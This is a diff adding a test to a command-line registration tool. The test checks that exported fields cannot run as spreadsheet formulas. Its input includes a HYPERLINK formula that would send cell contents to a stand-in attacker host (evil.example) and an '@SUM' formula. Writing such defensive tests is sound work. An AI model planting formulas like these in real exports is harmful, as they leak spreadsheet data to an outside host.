@@ -190,3 +190,13 @@ def test_export_since_a_day_to_a_private_file(decided, tmp_path):
 def test_export_with_a_bad_date_is_a_usage_error(decided):
     result = run(decided, "registrations", "export", "--since", "22/11/2026")
     assert result.exit_code == 2 and "does not match the format" in result.stderr
+
+
+def test_words_in_the_export_cannot_run_as_a_spreadsheet_formula(cli_app, tmp_path):
+    run(cli_app, "registrations", "import", registrations_file(tmp_path, *ROWS))
+    approve(cli_app, "MMR-17-0001", "household", None, {"words": '=HYPERLINK("http://evil.example/?"&A1,"x")'}, DAY)
+    approve(cli_app, "MMR-17-0002", "address", "", "@SUM(1+1)", DAY + timedelta(hours=1))
+    approve(cli_app, "MMR-17-0003", "phone", "", "+959421337411", DAY + timedelta(hours=2))
+    rows = parsed(run(cli_app, "registrations", "export").stdout)[1:]
+    assert [row[3] for row in rows] == ["'=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "'@SUM(1+1)",
+                                        "+959421337411"]  # a phone number stays as it is
